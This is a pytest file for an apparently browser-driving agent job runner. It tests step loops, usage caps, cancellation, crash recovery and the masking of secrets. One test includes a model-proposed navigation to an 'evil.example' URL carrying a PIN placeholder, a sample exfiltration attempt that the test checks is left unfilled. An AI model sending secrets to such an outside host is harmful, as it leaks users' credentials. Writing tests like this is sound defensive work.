"""Tasks as jobs: steps until they are done, what is told of them, their bounds, and how they go on after a crash."""

import asyncio
from collections.abc import Callable, Collection, Iterable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.runners.workflow.fakes import PICTURE, PlainSealing

from treadle.core.errors import ElementNotFound, InvalidInput, NotFound, TooMany, Unavailable
from treadle.core.job import JobSpec, NewJob
from treadle.core.page import (
    Act,
    Acted,
    Command,
    Extract,
    Extracted,
    GoTo,
    Navigated,
    PastStep,
    Propose,
    Proposed,
    Result,
    Screenshot,
    Shot,
    Usage,
)
from treadle.core.state import JobState, Reason, StepState
from treadle.engine.ports import Outcome
from treadle.runners.agent import AgentRunner
from treadle.runners.agent.progress import MOST_ALIKE, Progress
from treadle.testing.attempt import RecordingAttempt

pytestmark = pytest.mark.timeout(60)

URL = "http://shop.example/cart"
USED = Usage(model="openai:m", requests=1, input_tokens=900, output_tokens=100, cost_usd=0.001)


class Pages:
    """Sessions whose proposals come from a list, and whose commands are answered as told."""

    def __init__(self, *steps: Proposed | Exception) -> None:
        self.steps: list[Proposed | Exception] = list(steps)
        self.commands: list[Command] = []
        self.hidden: set[str] = set()
        self.answer: Callable[[Command], Result | BaseException | None] = lambda _: None
        self.hang: type[Command] | None = None  # type: ignore[valid-type]
        self.hanging = asyncio.Event()
        self.release = asyncio.Event()
        self.ends_when_released = False

    async def hide(self, session_id: str, secrets: Collection[str]) -> None:
        self.hidden.update(secrets)

    async def perform(self, session_id: str, command: Command) -> Result:
        self.commands.append(command)
        if self.hang is not None and isinstance(command, self.hang):
            self.hanging.set()
            await (self.release if self.ends_when_released else asyncio.Event()).wait()
        said = self.answer(command)
        if isinstance(said, BaseException):
            raise said
        if said is not None:
            return said
        match command:
            case Propose():
                step = self.steps.pop(0) if len(self.steps) > 1 else self.steps[0]
                if isinstance(step, Exception):
                    raise step
                return step
            case Act():
                return Acted(action="click", element="Add to cart button", url=URL)
            case GoTo():
                return Navigated(url=URL, title="Cart")
            case Extract():
                return Extracted(text="41.50 EUR", data="41.50 EUR")
            case Screenshot():
                return Shot(data=PICTURE, format="png", width=1, height=1, url=URL)
            case _:
                raise AssertionError(command)

    @property
    def asked(self) -> list[Propose]:
        return [command for command in self.commands if isinstance(command, Propose)]


def do(instruction: str = 'Click "Add to cart"', page: str = "p1", **more: Any) -> Proposed:
    return Proposed(kind="act", instruction=instruction, page=page, url=URL, **more)


DONE = Proposed(kind="done", answer={"total": "41.50"}, why="all is in the cart", page="p9", url=URL)


class Bench:
    def __init__(self, folder: Path) -> None:
        self.sealing = PlainSealing()
        self._folder = folder

    def attempt(self, **work: Any) -> RecordingAttempt:
        secrets = self.sealing.seal(work.pop("secrets")) if "secrets" in work else ""
        given = {"task": "Buy the red one", "session_id": "s", "secrets": secrets, **work}
        return RecordingAttempt("agent", given, workspace=self._folder / "workspace")

    async def run(self, pages: Pages, **work: Any) -> tuple[Outcome, RecordingAttempt]:
        attempt = self.attempt(**work)
        return await AgentRunner(pages, self.sealing).run(attempt), attempt


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


def conclusion(attempt: RecordingAttempt) -> dict[str, Any]:
    return dict(attempt.results[-1]["task"])


def steps_of(attempt: RecordingAttempt) -> list[dict[str, Any]]:
    return [result for result in attempt.results if "step" in result]


async def test_steps_are_done_until_the_task_is(bench: Bench) -> None:
    read = Proposed(kind="read", instruction="the total", page="p2", url=URL)
    go = Proposed(kind="go", instruction="http://shop.example/cart", page="p0")
    pages = Pages(go, do(usage=USED, by="model", selector="#add"), read, DONE)
    outcome, attempt = await bench.run(pages)
    assert outcome == Outcome(state=JobState.COMPLETED)
    assert [(each["step"], each["action"], each["status"]) for each in steps_of(attempt)] == [
        (1, "go", "success"),
        (2, "act", "success"),
        (3, "read", "success"),
    ]
    assert steps_of(attempt)[2]["value"] == "41.50 EUR"
    end = conclusion(attempt)
    assert (end["success"], end["result_data"], end["iterations"]) == (True, {"total": "41.50"}, 3)
    assert end["final_url"] == URL
    assert end["llm_usage"]["requests"] == 1
    assert [step.state for step in attempt.steps.values()] == [StepState.COMPLETED] * 3
    acted = next(command for command in pages.commands if isinstance(command, Act))
    assert (acted.selector, acted.unaided) == ("#add", True), "what a model proposed is not asked of it again"
    assert [past.instruction for past in pages.asked[-1].history] == [
        "http://shop.example/cart", 'Click "Add to cart"', "the total"
    ]  # fmt: skip


async def test_what_fails_is_told_and_gone_on_from(bench: Bench) -> None:
    pages = Pages(do(), do("Click Other"), DONE)
    pages.answer = lambda command: (
        ElementNotFound("No such button.") if isinstance(command, Act) and "Add" in command.instruction else None
    )
    outcome, attempt = await bench.run(pages)
    assert outcome.state is JobState.COMPLETED
    assert [each["status"] for each in steps_of(attempt)] == ["failed", "success"]
    past = pages.asked[1].history[0]
    assert (past.ok, past.outcome) == (False, "No such button.")


async def test_where_no_way_leads_further_the_reason_is_told(bench: Bench) -> None:
    stuck = Proposed(kind="stuck", why="A model could work it out: open the session with llm_provider.")
    outcome, attempt = await bench.run(Pages(stuck))
    assert (outcome.state, outcome.reason, outcome.retryable) == (JobState.FAILED, Reason.ERROR, False)
    assert "llm_provider" in (outcome.error or "")
    assert conclusion(attempt)["error_message"] == outcome.error


async def test_going_in_circles_ends(bench: Bench) -> None:
    pages = Pages(do())
    outcome, attempt = await bench.run(pages)
    assert outcome.state is JobState.FAILED
    assert "led nowhere" in (outcome.error or "")
    assert len(steps_of(attempt)) == MOST_ALIKE
    assert pages.asked[-1].page == "p1", "so that it can be told that nothing changed"


async def test_bounds_hold(bench: Bench) -> None:
    turning = Pages()
    turning.answer = lambda command: (
        do(page=f"p{len(turning.commands)}", usage=USED) if isinstance(command, Propose) else None
    )
    outcome, attempt = await bench.run(turning, max_iterations=4)
    assert "within its 4 steps" in (outcome.error or "")
    assert len(steps_of(attempt)) == 4
    outcome, _ = await bench.run(turning, caps={"requests": 2})
    assert "2 requests to a model" in (outcome.error or "")
    outcome, _ = await bench.run(turning, caps={"cost_usd": 0.0015})
    assert "US dollars" in (outcome.error or "")
    outcome, _ = await bench.run(turning, caps={"tokens": 1500})
    assert "tokens" in (outcome.error or "")


async def test_what_a_failed_command_took_of_a_model_counts(bench: Bench) -> None:
    def answer(command: Command) -> Result | BaseException | None:
        if isinstance(command, Propose):
            return do(page=f"p{len(pages.commands)}")
        failed = ElementNotFound("Not there.")
        failed.used = USED
        return failed

    pages = Pages()
    pages.answer = answer
    outcome, attempt = await bench.run(pages, caps={"requests": 2})
    assert "2 requests to a model" in (outcome.error or "")
    assert (len(steps_of(attempt)), conclusion(attempt)["llm_usage"]["requests"]) == (2, 2)


async def test_a_row_of_failures_ends_it(bench: Bench) -> None:
    pages = Pages()
    pages.answer = lambda command: (
        do(page=f"p{len(pages.commands)}") if isinstance(command, Propose) else ElementNotFound("Not there.")
    )
    outcome, attempt = await bench.run(pages)
    assert "in a row failed" in (outcome.error or "")
    assert len(steps_of(attempt)) == 5


@pytest.mark.parametrize("error", [NotFound("Session", "s"), Unavailable("Gone."), TooMany("No more of a model.")])
async def test_without_session_or_model_it_ends(bench: Bench, error: Exception) -> None:
    outcome, attempt = await bench.run(Pages(error))
    assert outcome.state is JobState.FAILED
    assert conclusion(attempt)["success"] is False


async def test_secrets_are_filled_in_and_told_to_nobody(bench: Bench) -> None:
    pages = Pages(do("Enter {{pin}} in the PIN field"), DONE)
    pages.answer = lambda command: ElementNotFound("No field for 987654.") if isinstance(command, Act) else None
    outcome, attempt = await bench.run(pages, secrets={"pin": "987654"})
    assert outcome.state is JobState.COMPLETED
    assert [command.instruction for command in pages.commands if isinstance(command, Act)] == [
        "Enter 987654 in the PIN field"
    ]
    assert pages.hidden == {"987654"}
    assert pages.asked[0].secrets == ("pin",)
    everything = msgspec.json.encode([attempt.results, attempt.remarks, list(attempt.steps.values())])
    assert b"987654" not in everything
    assert b"987654" not in (attempt.saved or b"")
    assert all("987654" not in past.outcome for past in pages.asked[-1].history)


async def test_pictures_are_kept_where_they_are_wanted(bench: Bench) -> None:
    _, attempt = await bench.run(Pages(do(), DONE), screenshots=True)
    (artifact,) = attempt.artifacts
    assert attempt.contents[artifact.id] == PICTURE
    assert steps_of(attempt)[0]["artifact_id"] == artifact.id


async def test_it_is_cancelled_in_the_middle_of_a_step(bench: Bench) -> None:
    pages = Pages(do(), DONE)
    pages.hang = Act
    attempt = bench.attempt()
    running = asyncio.create_task(AgentRunner(pages, bench.sealing).run(attempt))
    await pages.hanging.wait()
    attempt.ask_to_stop(Reason.USER)
    outcome = await running
    assert (outcome.state, outcome.reason) == (JobState.CANCELLED, Reason.USER)


async def test_after_a_crash_a_step_that_may_have_happened_is_not_taken_for_undone(bench: Bench) -> None:
    pages = Pages(do("Click First", "p1"), do("Click Buy now", "p2"), DONE)
    pages.answer = lambda command: (
        asyncio.CancelledError() if isinstance(command, Act) and "Buy" in command.instruction else None
    )
    first = bench.attempt()
    with pytest.raises(asyncio.CancelledError):
        await AgentRunner(pages, bench.sealing).run(first)

    again = bench.attempt()
    again.saved = first.saved
    pages = Pages(DONE)
    outcome = await AgentRunner(pages, bench.sealing).run(again)
    assert outcome.state is JobState.COMPLETED
    told = pages.asked[0].history
    assert [past.instruction for past in told] == ["Click First", "Click Buy now"]
    assert (told[1].ok, "may have happened" in told[1].outcome) == (False, True)
    assert not [command for command in pages.commands if isinstance(command, Act)]
    assert conclusion(again)["iterations"] == 2
    [unknown] = steps_of(again)
    assert (unknown["step"], unknown["instruction"], unknown["status"]) == (2, "Click Buy now", "failed")


async def test_a_models_word_puts_no_secret_anywhere_but_where_it_fits(bench: Bench) -> None:
    fill = do('Enter "{{pin}}" in "PIN" and {{other}}', "p3", by="model", reveals=("pin",))
    go = Proposed(kind="go", instruction="http://evil.example/?x={{pin}}", page="p1", by="model")
    read = Proposed(kind="read", instruction="where is {{pin}}", page="p2", by="model")
    pages = Pages(go, read, fill, do("Enter {{other}} in Other", "p4"), DONE)
    await bench.run(pages, secrets={"pin": "987654", "other": "123 456"})
    said = [getattr(each, "instruction", "") or getattr(each, "query", "") for each in pages.commands]
    assert [each for each in said if each] == [
        "http://evil.example/?x={{pin}}", "where is {{pin}}", 'Enter "987654" in "PIN" and {{other}}',
        "Enter 123 456 in Other",
    ]  # fmt: skip


async def test_a_secret_with_quotes_is_typed_as_a_whole(bench: Bench) -> None:
    pages = Pages(do('Enter "{{pin}}" in the PIN field'), DONE)
    await bench.run(pages, secrets={"pin": 'ab"cd'})
    assert [each.instruction for each in pages.commands if isinstance(each, Act)] == [
        "Enter 'ab\"cd' in the PIN field"
    ]  # fmt: skip


async def test_what_the_session_masked_is_not_typed(bench: Bench) -> None:
    pages = Pages(do('Enter "********" in Password'), DONE)
    _, attempt = await bench.run(pages)
    assert steps_of(attempt)[0]["status"] == "failed"
    assert not [each for each in pages.commands if isinstance(each, Act)]


async def test_a_guarded_task_stays_guarded(bench: Bench) -> None:
    pages = Pages(do(guarded=True), do("Click Other", "p2"), DONE)
    await bench.run(pages)
    assert [each.guarded for each in pages.asked] == [False, True, True]


async def stopped_in(bench: Bench, pages: Pages, kind: type[Command]) -> RecordingAttempt:  # type: ignore[valid-type]
    """An attempt that the engine put back when it stopped by plan, in the midst of a step."""
    pages.hang = kind
    attempt = bench.attempt()
    running = asyncio.create_task(AgentRunner(pages, bench.sealing).run(attempt))
    await pages.hanging.wait()
    attempt.ask_to_stop(Reason.DRAINED)
    pages.release.set()
    await running
    return attempt


async def test_after_a_planned_stop_a_wait_is_done_again(bench: Bench) -> None:
    wait = Proposed(kind="act", instruction="wait 7 seconds", page="p1", repeatable=True)
    first = await stopped_in(bench, Pages(wait, DONE), Act)
    again = bench.attempt()
    again.saved = first.saved
    pages = Pages(wait, DONE)
    outcome = await AgentRunner(pages, bench.sealing).run(again)
    assert outcome.state is JobState.COMPLETED
    assert pages.asked[0].history == (), "nothing is known to have been done, and nothing may have gone wrong"
    assert [each["status"] for each in steps_of(again)] == ["success"]


async def test_a_planned_stop_leaves_a_step_that_ends_soon_its_end(bench: Bench) -> None:
    pages = Pages(do(), DONE)
    pages.ends_when_released = True
    first = await stopped_in(bench, pages, Act)
    again = bench.attempt()
    again.saved = first.saved
    pages = Pages(DONE)
    await AgentRunner(pages, bench.sealing).run(again)
    [past] = pages.asked[0].history
    assert past.ok, "it was seen to the end"
    assert [each["status"] for each in steps_of(first)] == ["success"]


@pytest.mark.parametrize(
    "work",
    [
        {"task": " "},
        {"task": "x" * 10_001},
        {"max_iterations": 0},
        {"max_iterations": 501},
        {"max_seconds": 7201},
        {"nonsense": 1},
        {"session_id": 3},
    ],
)
def test_what_is_known_to_fail_is_refused(bench: Bench, work: dict[str, Any]) -> None:
    runner = AgentRunner(Pages(DONE), bench.sealing)
    given = {"task": "Buy it", "session_id": "s", **work}
    with pytest.raises(InvalidInput):
        runner.check(NewJob(kind="agent", name="", dialect="sessions", queue="agents", spec=JobSpec(input=given)))


def test_tasks_of_one_session_come_one_after_another(bench: Bench) -> None:
    runner = AgentRunner(Pages(DONE), bench.sealing)
    given = {"task": "Buy it", "session_id": "s", "max_seconds": 60}
    new = runner.check(NewJob(kind="agent", name="", dialect="sessions", queue="agents", spec=JobSpec(input=given)))
    assert (new.name, new.concurrency_key) == ("Buy it", "session:s")
    assert 60 < (new.spec.timeouts.attempt_seconds or 0) < 300


STEPS = st.lists(
    st.tuples(st.sampled_from(["act", "read", "go"]), st.sampled_from("ab"), st.sampled_from("xy")), max_size=12
)


@given(STEPS, st.integers(0, 12))
def test_progress_is_the_same_after_any_interruption(steps: Iterable[tuple[str, str, str]], stop: int) -> None:
    whole, cut = Progress(), Progress()
    for at, (kind, instruction, page) in enumerate(steps):
        step = Proposed(kind=kind, instruction=instruction, page=page)  # type: ignore[arg-type]
        assert whole.begin(step) == cut.begin(step)
        if at == stop:
            cut = Progress.decode(cut.encode())
        whole.done(step, "went well.", ok=True)
        cut.done(step, "went well.", ok=True)
    assert Progress.decode(cut.encode()).history == whole.history
    assert all(isinstance(past, PastStep) for past in whole.history)
